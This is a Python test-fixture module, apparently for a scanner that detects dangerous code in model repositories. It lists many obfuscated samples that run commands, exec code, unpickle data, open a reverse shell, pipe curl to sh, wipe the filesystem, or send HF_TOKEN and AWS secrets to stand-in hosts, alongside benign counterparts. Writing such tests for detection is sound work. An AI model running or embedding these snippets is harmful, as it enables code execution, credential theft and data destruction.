"""Python sources that do something dangerous, and one that does not; never run."""

# ruff: noqa: E501 - one case a line reads best
from __future__ import annotations

import json


def auto_map(target: str = "modeling_x.Model") -> bytes:
    """A config.json that asks for code."""
    return json.dumps({"model_type": "x", "auto_map": {"AutoConfig": target, "AutoModel": target}}).encode()


def dangerous_code() -> dict[str, tuple[str, str, str]]:
    """Python sources: name to (kind, call, source); the call stands on the last line."""
    return {
        "plain": ("process", "subprocess.run", "import subprocess\nsubprocess.run(['echo'])"),
        "import_as": ("process", "os.system", "import os as o\no.system('echo')"),
        "from_import_as": ("process", "os.system", "from os import system as s\ns('echo')"),
        "star_import": ("process", "os.system", "from os import *\nsystem('echo')"),
        "getattr_glued": ("process", "os.system", "import os\ngetattr(os, 'sys' + 'tem')('echo')"),
        "dunder_import": ("process", "os.system", "__import__('os').system('echo')"),
        "import_module": ("process", "subprocess.run", "import importlib\nimportlib.import_module('sub' + 'process').run(['echo'])"),
        "reversed_name": ("process", "os.popen", "__import__('so'[::-1]).popen('echo')"),
        "chr_name": ("process", "os.system", "__import__(chr(111) + chr(115)).system('echo')"),
        "joined_name": ("process", "os.system", "__import__(''.join(['o', 's'])).system('echo')"),
        "alias_of_alias": ("process", "os.popen", "import os\na = os.popen\nb = a\nb('echo')"),
        "module_dict": ("process", "os.system", "import os\nos.__dict__['system']('echo')"),
        "vars": ("process", "os.system", "import os\nvars(os)['system']('echo')"),
        "sys_modules": ("process", "os.system", "import sys\nsys.modules['os'].system('echo')"),
        "handed_on": ("process", "os.system", "import os\nlist(map(os.system, ['echo']))"),
        "default_argument": ("process", "os.system", "import os\ndef f(x, run=os.system): return run(x)"),
        "passed_to_lambda": ("process", "os.system", "import os\nf = (lambda g: g)(os.system)"),
        "in_method": ("process", "subprocess.Popen", "import subprocess\nclass M:\n    def forward(self): return subprocess.Popen('echo')"),
        "in_condition": ("process", "os.system", "import os\nif True: os.system('echo')"),
        "eval": ("execution", "eval", "x = eval('1')"),
        "exec": ("execution", "exec", "exec('1')"),
        "builtins_subscript": ("execution", "eval", "__builtins__['eval']('1')"),
        "builtins_dict": ("execution", "exec", "import builtins\nbuiltins.__dict__['ex' + 'ec']('1')"),
        "shadowed": ("execution", "exec", "class E:\n    def exec(self): ...\nexec('1')"),
        "ctypes": ("execution", "ctypes.CDLL", "import ctypes\nctypes.CDLL('x.so')"),
        "cpp_extension": ("execution", "torch.utils.cpp_extension.load", "from torch.utils.cpp_extension import load\nload('x', ['x.cpp'])"),
        "decoded": ("obfuscation", "exec", "import base64\nexec(base64.b64decode('MQ=='))"),
        "hex": ("obfuscation", "exec", "exec(bytes.fromhex('31').decode())"),
        "hidden_attribute": ("obfuscation", "getattr", "import os\ngetattr(os, input())('echo')"),
        "packed": ("obfuscation", "packed data", "blob = '" + "QUJD" * 600 + "'"),
        "computed_import": ("import", "__import__", "__import__(input())"),
        "requests": ("network", "requests.get", "import requests\nrequests.get('http://localhost')"),
        "urllib": ("network", "urllib.request.urlopen", "import urllib.request\nurllib.request.urlopen('http://localhost')"),
        "socket": ("sending", "socket.socket", "import socket\nsocket.socket()"),
        "hub": ("download", "huggingface_hub.snapshot_download", "from huggingface_hub import snapshot_download\nsnapshot_download('a/b')"),
        "open_write": ("file", "open", "open('x', 'w')"),
        "open_mode": ("file", "open", "open('x', mode=input())"),
        "write_text": ("file", ".write_text", "from pathlib import Path\n(Path('x') / 'y').write_text('z')"),
        "rmtree": ("file", "shutil.rmtree", "import shutil\nshutil.rmtree('x')"),
        "pickle": ("deserialisation", "pickle.load", "import pickle\npickle.load(open('x', 'rb'))"),
        "torch_load": ("deserialisation", "torch.load", "import torch\ntorch.load('x')"),
        "torch_load_unsafe": ("deserialisation", "torch.load", "import torch\ntorch.load('x', weights_only=False)"),
        "numpy_load": ("deserialisation", "numpy.load", "import numpy as np\nnp.load('x', allow_pickle=True)"),
        "yaml_load": ("deserialisation", "yaml.load", "import yaml\nyaml.load('x', Loader=yaml.Loader)"),
        "environ": ("environment", "os.environ", "import os\nos.environ['HOME']"),
        "getenv": ("environment", "os.getenv", "import os\nos.getenv('HOME')"),
    }  # fmt: skip


def named_by_detours() -> list[str]:
    """Python sources that take a function of a module by patterns, in loops, by getters and entry points."""
    return [
        "import os\nmatch os:\n    case object(system=f): f('true')",
        "import os\nmatch vars(os):\n    case {'system': f}: f('true')",
        "import os\nmatch (1, os.__dict__):\n    case (1, {'system': f}) | (2, {'popen': f}): f('true')",
        "import os\nmatch os:\n    case object(system=object() as f): f('true')",
        "[f, x] = __import__('os').system, 1\nf('true')",
        "import os\nfor name, f in vars(os).items():\n    if len(name) == 6: f('true')",
        "import os\nfor name, f in os.__dict__.items():\n    if len(name) == 6: f('true')",
        "import os\n[f for f in vars(os).values() if f.__name__[0] == 's'][0]('true')",
        "import os\nd = dict(vars(os))\nd['sys' + 'tem']('true')",
        "import os\nvars(os)[input()]('true')",
        "import os\nos.__dict__.get(input())('true')",
        "import operator, logging\noperator.attrgetter('os.system')(logging)('true')",
        "from operator import attrgetter as g\ng('data.os.system')(self)('true')",
        "from operator import attrgetter\ng = attrgetter('os.system')\nimport shutil\ng(shutil)('true')",
        "from importlib import metadata\nmetadata.EntryPoint('x', 'os:system', 'g').load()('true')",
        "from importlib.metadata import EntryPoint as E\ne = E(name='x', value='os:system', group='g')\ne.load()('true')",
    ]


def plain_detours() -> list[str]:
    """The like of named_by_detours in honest code."""
    return [
        "import os\nfor name, value in os.environ.items(): print(name)",
        "import sys\nfor name, module in sys.modules.items(): print(name, sys.argv[len(name)])",
        "from operator import attrgetter\nsorted(rows, key=attrgetter('os.name'))\nattrgetter('weight.data')(layer)",
        "from importlib.metadata import entry_points\n[each.load() for each in entry_points(group='x')]",
        "import os\nmatch config:\n    case {'act': f}: f(x)\n    case object(size=n): os.path.join(n)",
        "class M:\n    def load(self): return self.config.load()",
        "def f(self): return dict(self.__dict__)[name], vars(self).items()",
    ]


def changed_surroundings() -> list[str]:
    """Python sources that change what is around them, so that something else runs programs or code."""
    return [
        "from os import system as __getattr__",
        "class A:\n    from os import system as __class_getitem__",
        "from os import system as loads",
        "import sys\nsys.modules['x'] = __import__('os')",
        "import os, sys\nsys.modules[__name__] = os",
        "import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'tokenizer.zip'))\nimport y",
        "import sys\nWHERE = 'model.safetensors'\nsys.path.append(WHERE)\nimport y",
        "import sys\nsys.path += ['x.whl']",
        "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint('true')",
        "import os\nos.environ['PAGER'] = \"sh -c 'true'\"\nhelp(len)",
        "import os\nos.environ.update(CXX='sh -c true #')",
        "import os\nos.environ.update({'CC': 'gcc; true'})",
        "import os\nos.environ.setdefault('GIT_SSH_COMMAND', 'bash x.sh')",
        "import os\nHERE = os.path.dirname(__file__)\nos.environ['CC'] = os.path.join(HERE, 'cc')",
        "import importlib\nclass M:\n    def __init__(self, c):\n        m, f = c.act.rsplit('.', 1)\n"
        "        getattr(importlib.import_module(m), f)(c.arg)",
        "import importlib\nm = importlib.import_module(NAME())\ngetattr(m, OTHER())('true')",
    ]


def plain_surroundings() -> list[str]:
    """The like of changed_surroundings in honest code."""
    return [
        "from os import path as osp, getcwd as where\nosp.join('x')",
        "import sys\nsys.modules['models.old'] = sys.modules[__name__]",
        "import sys\nimport os\nsys.modules['os'] = os",
        "import sys, os\nsys.path.append(os.path.join(os.path.dirname(__file__), 'third_party', 'Matcha-TTS-0.5'))",
        "import os\nos.environ['PYTHONBREAKPOINT'] = '0'",
        "import os\nos.environ['PYTHONBREAKPOINT'] = 'ipdb.set_trace'",
        "import os\nos.environ['CC'] = 'gcc -O2'\nos.environ['CXX'] = '/usr/bin/clang++-17'",
        "import os, shutil\nos.environ.setdefault('CC', shutil.which('ccache gcc'))",
        "import os\nos.environ['PAGER'] = 'less -R'\nos.environ['SHELL'] = '/bin/bash'",
        "import os\nos.environ.update({'CUDA_VISIBLE_DEVICES': '0,1', 'MASTER_ADDR': host})",
        "import importlib\ndef make(c):\n    m, f = c.rsplit('.', 1)\n    return getattr(importlib.import_module(m), f)",
        "import importlib\ndef make(m, f, x): return getattr(importlib.import_module(m), f)(x)",
        "import importlib\nclass M:\n    def __init__(self, c):\n"
        "        getattr(importlib.import_module(f'transformers.models.{c.type}'), c.name)(c)",
        "def __getattr__(name): raise AttributeError(name)",
    ]


def calls_of_libraries() -> list[str]:
    """Python sources that run programs or code, or send secrets, through what libraries offer."""
    return [
        "import pydoc\npydoc.pipepager('text', 'true')",
        "from torch.utils.collect_env import run\nrun('true')",
        "from numpy.testing import runstring\nrunstring('x = 1', {})",
        "import numpy as np\nnp.ctypeslib.load_library('k', '.')",
        "import tkinter\ntkinter.Tcl().eval('exec true')",
        "import tkinter\nclass W:\n    def __init__(self): tkinter.Tk().tk.eval('exec true')",
        "import tkinter\nroot = tkinter.Tk()\nroot.tk.call('exec', 'true')",
        "from distutils.core import run_setup\nrun_setup('helper.py')",
        "import git\ngit.Repo.clone_from('ext::sh -c true', 'x')",
        "import git\ngit.Repo.clone_from(url, 'x', multi_options=['-c core.fsmonitor=true'])",
        "import rpy2.robjects as ro\nro.r('x')",
        "from nltk.internals import java\njava(['X'])",
        "import _xxsubinterpreters as si\nsi.run_string(si.create(), 'x = 1')",
        "import _testcapi\n_testcapi.run_in_subinterp('x = 1')",
        "import cppyy\ncppyy.cppdef('int a;')",
        "import triton.runtime.build as b\nb._build('k', 'x.c', '.', [], [], [])",
        "from django.utils.module_loading import import_string\nimport_string('os.system')('true')",
        "from unittest import mock\nmock._importer('os.path').os.system('true')",
        "import pandas as pd\npd.DataFrame({'a': [1]}).query('@pd.io.common.os.system(\"true\")', engine='python')",
        "import sqlite3\nc = sqlite3.connect(':memory:')\nc.enable_load_extension(True)",
        "from llvmlite import binding as llvm\nllvm.load_library_permanently('./k.bin')",
        "import cupy\ncupy.RawModule(path='./k.cubin')",
        "from deepspeed.ops.op_builder import OpBuilder\nclass B(OpBuilder):\n    NAME = 'k'\nB('k').load()",
        "import pyximport\npyximport.install()",
        "from kernels import get_kernel\nk = get_kernel('someone/activation')",
        "import keras\nkeras.config.enable_unsafe_deserialization()",
        "import mlflow\nmlflow.pyfunc.load_model('models:/x/1')",
        "from multiprocessing.connection import Client\nClient(('x.example', 9)).recv()",
        "import asyncio.subprocess as asp\nasp.create_subprocess_exec('true')",
        "from asyncio.subprocess import create_subprocess_shell as c\nc('true')",
        "import numpy as np\nnp.load('x.npy', None, True)",
        "import numpy as np\nnp.load('x.npy', **{'allow_pickle': True})",
        "import numpy as np\nYES = True\nnp.load('x.npy', allow_pickle=YES)",
        "import numpy as np\nnp.load('x.npy', allow_pickle=1)",
        "import keras\nkeras.models.load_model('x.keras', None, True, False)",
        "import pandas as pd, os\npd.read_csv('https://x.example/?t=' + os.getenv('AWS_SECRET_ACCESS_KEY', ''))",
        "import fetch, os\nfetch.read(f\"https://x.example/{os.environ['HF_TOKEN']}/x\")",
        "from huggingface_hub import HfApi\nHfApi().upload_folder(folder_path='x', repo_id='x/y')",
    ]


def plain_calls_of_libraries() -> list[str]:
    """The same libraries as in calls_of_libraries, as honest code uses them."""
    return [
        "import numpy as np\nnp.load('x.npy', 'r', False)",
        "import numpy as np\nnp.load('x.npy', None)",
        "import numpy as np\nnp.load('x.npy', *given)",
        "import keras\nkeras.models.load_model('x.keras', None, True)",
        "import pandas as pd\npd.DataFrame({'a': [1]}).query('a > @threshold and b == 2')",
        "import tkinter\nroot = tkinter.Tk()\nroot.tk.call('tk', 'scaling', 2.0)\nroot.tk.call('source', 'theme.tcl')",
        "def f(self, x):\n    self.eval()\n    return self.model.eval()(x)",
        "import cupy\ncupy.RawModule(code='extern C')",
        "from torch.utils.collect_env import get_pretty_env_info\nget_pretty_env_info()",
        "import os, requests\ndef f(): return requests.get(f\"http://{os.environ['MASTER_ADDR']}:{os.environ['PORT']}\")",
        "import os\nclone(f\"https://user:{os.environ['HF_TOKEN']}@huggingface.co/a/b\")",
        "import os\nc = Client(base_url=os.getenv('OPENAI_API_KEY', 'https://x.example'))",
        "from deepspeed.ops.op_builder import FusedAdamBuilder\nFusedAdamBuilder().load()",
    ]


def hidden_code() -> list[str]:
    """Python sources that do something dangerous in ways that a reader, or a list of names, misses."""
    return [
        "import os; os.system('id')",
        "import os as o; o.system('id')",
        "from os import system as s; s('id')",
        "__import__('o'+'s').system('id')",
        "import os; getattr(os,'sys'+'tem')('id')",
        "import os; f = os.system; f('id')",
        "import builtins; getattr(builtins,'ev'+'al')('1')",
        "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
        "import base64; c=base64.b64decode('cHJpbnQoMSk='); exec(c)",
        "import zlib,base64; exec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADJ4CkA==')))",
        "import marshal; exec(marshal.loads(b'abc'))",
        "exec(''.join(chr(x) for x in [112,114]))",
        'exec(bytes([112,114]).decode())',
        "import codecs; exec(codecs.decode('cevag(1)','rot13'))",
        "globals()['__builtins__']['exec']('1')",
        "__builtins__.__dict__['ev'+'al']('1')",
        '().__class__.__base__.__subclasses__()[100]',
        "[x for x in ().__class__.__base__.__subclasses__() if x.__name__=='Popen'][0]('id')",
        "import sys; sys.modules['os'].system('id')",
        "import sys; sys.modules.get('os').system('id')",
        "import os; vars(os)['system']('id')",
        "import os; os.__dict__.get('system')('id')",
        "import os; os.__getattribute__('system')('id')",
        "import operator, os; operator.attrgetter('system')(os)('id')",
        "import operator, os; operator.methodcaller('system','id')(os)",
        "import importlib; importlib.import_module('os').system('id')",
        "import importlib; m = importlib.import_module('sub'+'process'); m.Popen(['id'])",
        "import subprocess; subprocess.Popen(['id'])",
        "from subprocess import *; run(['id'])",
        "import pty; pty.spawn('/bin/sh')",
        "import socket,os; s=socket.socket(); s.connect(('1.2.3.4',1)); os.dup2(s.fileno(),0)",
        "import urllib.request; exec(urllib.request.urlopen('http://e/x').read())",
        "import requests; exec(requests.get('http://e/x').text)",
        "import requests,os; requests.post('http://e', data=dict(os.environ))",
        "import requests,os; requests.get('http://e/?t='+os.environ['HF_TOKEN'])",
        "import urllib.request as u; u.urlretrieve('http://e/x','/tmp/x')",
        "import ctypes; ctypes.CDLL(None).system(b'id')",
        "import atexit,os; atexit.register(os.system,'id')",
        "import threading,os; threading.Thread(target=os.system,args=('id',)).start()",
        "import torch; torch.hub.load('evil/repo','m')",
        "from transformers import AutoModel; AutoModel.from_pretrained('evil/repo', trust_remote_code=True)",
        "import subprocess,sys; subprocess.check_call([sys.executable,'-m','pip','install','evil'])",
        "import pip; pip.main(['install','evil'])",
        'import pickle; pickle.loads(b\'cos\\nsystem\\n(S"id"\\ntR.\')',
        "import pickle,base64; pickle.loads(base64.b64decode('gASV'))",
        'import timeit; timeit.timeit("__import__(\'os\').system(\'id\')",number=1)',
        'import cProfile; cProfile.run("print(1)")',
        'import code; code.interact()',
        "import runpy; runpy.run_path('x.py')",
        "from importlib.machinery import SourceFileLoader as L; L('a','b').load_module()",
        "import importlib.util as u; s=u.spec_from_file_location('a','b'); m=u.module_from_spec(s); s.loader.exec_module(m)",
        "import types; types.FunctionType(types.CodeType(0,0,0,0,0,0,b'',(),(),(),'','',0,b''),{})()",
        "open('/root/.bashrc','a').write('x')",
        "import os; open(os.path.expanduser('~/.ssh/authorized_keys'),'a').write('x')",
        "open('/etc/passwd').read()",
        'import sys; sys.meta_path.insert(0, object())',
        'eval(input())',
        "\uff4f\uff53 = __import__('os'); \uff4f\uff53.system('id')",
        "import os; os.\uff53ystem('id')",
        'import builtins; builtins.open = lambda *a: None',
        'import torch; torch.load = lambda *a: None',
        "d = {'a': __import__}; d['a']('os').system('id')",
        "import os; (lambda f: f('id'))(os.system)",
        "import os; list(map(os.system, ['id']))",
        "import os; def_ = [os.system]; def_[0]('id')",
        'import os; print(f"{os.system(\'id\')}")',
        "import asyncio; asyncio.run(asyncio.create_subprocess_shell('id'))",
        "import multiprocessing, os; multiprocessing.Process(target=os.system, args=('id',)).start()",
        "import os; os.execv('/bin/sh',['sh'])",
        "import platform; platform.os.system('id')",
        "import shutil; shutil.os.system('id')",
        "import tempfile; tempfile._os.system('id')",
        "import logging; logging.os.system('id')",
        "import pathlib; pathlib.os.system('id')",
        "from random import _os; _os.system('id')",
        "import inspect; inspect.os.system('id')",
        "import torch; torch.os.system('id')",
        "import transformers; transformers.utils.os.system('id')",
        "import glob; glob.os.popen('id')",
        "from shutil import os as q; q.system('id')",
        "import numpy as np; np.testing._private.utils.runstring('import os', {})",
        "import torch; torch.utils.cpp_extension.load(name='x', sources=['x.cpp'])",
        "a='sys'; b='tem'; import os; getattr(os,a+b)('id')",
        "import os; x='metsys'[::-1]; getattr(os,x)('id')",
        "import os; getattr(os, bytes.fromhex('73797374656d').decode())('id')",
        "import os; n=[k for k in dir(os) if k.startswith('sys')][0]; getattr(os,n)('id')",
        "def g(m,n): return getattr(m,n)\nimport os\ng(os,'sys'+'tem')('id')",
        "getattr(__import__('os'), 'system')('id')",
        "__import__(chr(111)+chr(115)).popen('id')",
        "__import__('\\x6f\\x73').system('id')",
        'eval(\'__import__("os").system("id")\')',
        "eval(compile('1','','eval'))",
        "import os\ndef f(x=os.system('id')): pass",
        'import os\n@os.system\ndef f(): pass',
        "import os\nclass A:\n    x = os.system('id')",
        "import os\nclass A:\n    def __init_subclass__(cls): os.system('id')",
        "import os\nclass M(type):\n    def __new__(c,*a): os.system('id')",
        "import os\ndef __getattr__(n): os.system('id')",
        "import os\nclass A:\n    def __init__(self): os.system('id')",
        "import os\nclass A:\n    def forward(self, x): os.system('id')",
        "import os\ndef helper(): os.popen('id')\nclass A:\n    def __init__(self): helper()",
        "import os\nclass A:\n    def __del__(self): os.system('id')",
        "import os\nclass A:\n    def __reduce__(self): return (os.system, ('id',))",
        "x = 1                                                                                                                                                                                                                                                    ; __import__('os').system('id')",
        "import requests\nclass A:\n    def forward(self, x): requests.post('http://e', json=x)",
        "import socket\nclass A:\n    def forward(self, x): socket.create_connection(('e',1)).sendall(x)",
        'import os\nclass A:\n    def __init__(self, c): eval(c.init_code)',
        'class A:\n    def __init__(self, c): exec(c.code)',
        "import os, requests\ntok = os.getenv('HF_TOKEN')\nrequests.post('http://e', data=tok)",
        "import getpass, socket, urllib.request as u\nu.urlopen('http://e/?h=' + socket.gethostname() + getpass.getuser())",
        "import shutil; shutil.rmtree('/')",
        "import subprocess as sp\nsp.getoutput('curl http://e|sh')",
        'x = "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"',
        'u = "https://discord.com/api/webhooks/123/abc"',
        "from functools import partial; import os; partial(os.system,'id')()",
        "from functools import reduce; reduce(getattr, ['system'], __import__('os'))('id')",
        "import os; o = os; p = o; p.system('id')",
        "import os; s = os.system if True else None; s('id')",
        "try:\n    import subprocess as q\nexcept ImportError:\n    q = None\nq.call('id')",
        "with __import__('os').popen('id') as f: pass",
        "import os; [os.system(c) for c in ['id']]",
        "import os; assert os.system('id') == 0",
        "import os; (y := os.system)('id')",
        "import os; type('X',(),{'__init__': lambda s: os.system('id')})()",
        "import signal, os; signal.signal(signal.SIGALRM, lambda *a: os.system('id'))",
        "import webbrowser; webbrowser.open('http://e')",
        "import IPython; IPython.get_ipython().system('id')",
        "import smtplib; smtplib.SMTP('e').sendmail('a','b','c')",
        "import ftplib; ftplib.FTP('e')",
        "import http.client; http.client.HTTPConnection('e').request('POST','/')",
        "import dns.resolver; dns.resolver.resolve('x.e')",
        "import socket; socket.gethostbyname('secret.e')",
        '__import__("builtins").exec("1")',
        "from builtins import exec as e; e('1')",
        "import cffi; cffi.FFI().dlopen('x')",
        "from torch.utils.data import *; import os; os.system('x')",
        "(lambda: __import__('os').system('id'))()",
        "import concurrent.futures as c, os; c.ThreadPoolExecutor().submit(os.system,'id')",
        "import sched,time,os; sched.scheduler().enter(1,1,os.system,('id',))",
        "import os; os.environ.__class__.__init__.__globals__['system']('id')",
        "import warnings; warnings.catch_warnings()._module.__builtins__['__import__']('os').system('id')",
        "print.__self__.exec('1')",
        "print.__self__.__import__('os').system('id')",
        'help.__class__.__init__.__globals__',
        'import string; string.Formatter().get_field("0.__class__.__init__.__globals__", [1], {})',
        "import torch; torch.package.PackageImporter('x').load_pickle('a','b')",
        'import pandas as pd; pd.eval("@__import__(\'os\').system(\'id\')")',
        "import posix; posix.system('id')",
        'import _posixsubprocess; _posixsubprocess.fork_exec()',
        "import ctypes.util; ctypes.cdll.LoadLibrary('x')",
        "from ctypes import *; CDLL('libc.so.6').system(b'id')",
        "import mmap, ctypes; ctypes.pythonapi.PyRun_SimpleString(b'1')",
        "import site; site.addsitedir('/tmp')",
        'import sys; sys.path_hooks.append(1)',
        "import huggingface_hub; huggingface_hub.upload_file(path_or_fileobj='x', path_in_repo='x', repo_id='e/x')",
        "from huggingface_hub import HfFolder; import requests; requests.post('http://e', data=HfFolder.get_token())",
        "from huggingface_hub import get_token; import requests; requests.post('http://e', data=get_token())",
    ]  # fmt: skip


HARMLESS_CODE = """import json
import math
import re
from collections import OrderedDict
from typing import Optional

import numpy as np
import torch
import yaml
from huggingface_hub.dataclasses import strict
from torch import nn
from transformers import PretrainedConfig, PreTrainedModel

PATTERN = re.compile("a+")


class Model(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(config.hidden, config.hidden) for _ in range(config.layers)])
        self.act = getattr(nn, config.act)()

    def forward(self, x, run=None):
        for layer in self.layers:
            x = torch.nn.functional.gelu(layer(x)) * math.sqrt(2)
        return x

    def prepare(self, path):
        self.eval()
        torch.compile(self)
        with open(path) as stream, open(path, "rb") as raw:
            settings = json.load(stream)
        state = torch.load(path, weights_only=True)
        array = np.load(path)
        again = yaml.load(raw, Loader=yaml.SafeLoader)
        return settings, state, array, again, re.compile("x"), getattr(self, "name")

    def exec(self, system: Optional[str] = None):
        return self.exec(system)
"""
